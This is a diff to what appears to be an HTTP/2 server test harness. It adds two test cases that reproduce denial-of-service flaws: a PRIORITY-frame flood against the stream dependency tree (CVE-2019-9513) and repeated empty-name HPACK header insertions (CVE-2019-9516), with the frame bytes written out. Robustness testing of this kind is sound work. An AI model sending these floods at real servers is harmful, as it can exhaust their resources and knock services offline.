@@ -27,6 +27,7 @@ from hyperframe.frame import (
     DataFrame,
     HeadersFrame,
     PingFrame,
+    PriorityFrame,
     RstStreamFrame,
     SettingsFrame,
     WindowUpdateFrame,
@@ -354,6 +355,41 @@ def invalid_preface_tls(port):
     peer = Peer(port, cafile=sys.argv[3])
     peer.send(PREFACE[:18] + b"XX\r\n\r\n" + SettingsFrame(0).serialize())
     peer.wait_closed()
+    peer.report()
+
+
+def priority_flood(port):
+    """CVE-2019-9513 (resource loop): PRIORITY frames reshuffling the
+    dependency tree of idle streams, as fast as possible."""
+    peer, enc = start(port)
+    batch = b"".join(
+        PriorityFrame(2 * i + 1, depends_on=2 * i + 3, stream_weight=200).serialize()
+        for i in range(1000)
+    )
+    for _ in range(30):
+        if not peer.send(batch):
+            break
+    peer.wait_closed()
+    peer.report()
+
+
+def empty_fields(port):
+    """CVE-2019-9516 (0-length headers leak): requests whose field block
+    inserts fields with an empty name and value into the dynamic table,
+    100 times, then a valid request."""
+    peer, _ = start(port)
+    # A literal with incremental indexing and a new name (RFC 7541 §6.2.1),
+    # both strings empty: 0x40 0x00 0x00, repeated. Every block comes from a
+    # fresh encoder (literals only), as the encoder does not know of these.
+    block = request(Encoder(), "/") + b"\x40\x00\x00" * 50
+    for i in range(100):
+        peer.frames(HeadersFrame(2 * i + 1, block, flags=["END_HEADERS", "END_STREAM"]))
+    valid = request(Encoder(), "/")
+    peer.frames(HeadersFrame(201, valid, flags=["END_HEADERS", "END_STREAM"]))
+    peer.wait(lambda: "headers 201" in peer.facts, 5.0)
+    time.sleep(0.1)
+    peer.sock.close()
+    peer.closed = True
     peer.report()
 
 
